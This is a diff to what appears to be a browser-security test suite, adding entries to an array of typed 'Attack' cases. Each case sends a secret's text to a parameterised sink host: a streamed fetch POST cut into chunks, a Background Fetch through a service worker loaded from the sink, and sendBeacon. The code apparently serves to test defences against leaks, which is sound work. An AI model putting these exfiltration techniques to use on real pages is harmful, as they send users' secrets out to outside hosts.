@@ -92,6 +92,31 @@ export const BODIES: readonly Attack[] = [
     const request = new Own(`${secret.sink}clone`, { method: 'POST', headers: JSON_TYPE, body: note(secret.text) });
     return fetch(request.clone());
   }),
+  row('71', 'fetch, stream that is cut inside the value', (secret) => {
+    const plain = bytes(secret.text);
+    const body = new ReadableStream({
+      async start(controller) {
+        for (let at = 0; at < plain.length; at += 12) {
+          controller.enqueue(plain.slice(at, at + 12));
+          await new Promise((resolve) => setTimeout(resolve, 5));
+        }
+        controller.close();
+      },
+    });
+    const init = { method: 'POST', headers: JSON_TYPE, body, duplex: 'half' };
+    return fetch(`${secret.sink}stream`, init);
+  }),
+  row('72', 'Background Fetch, body', async (secret) => {
+    const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    const { backgroundFetch } = registration as unknown as {
+      backgroundFetch?: { fetch(id: string, requests: Request[]): Promise<unknown> };
+    };
+    await backgroundFetch?.fetch('note', [new Request(`${secret.sink}background`, { method: 'POST', body: note(secret.text) })]);
+  }),
+  variant('8c', 'sendBeacon of URLSearchParams', (secret) =>
+    navigator.sendBeacon(`${secret.sink}beacon`, new URLSearchParams({ note: secret.text })),
+  ),
   row('43', 'fetchLater', (secret) => {
     window.fetchLater?.(`${secret.sink}later`, { method: 'POST', headers: JSON_TYPE, body: note(secret.text), activateAfter: 0 });
   }),
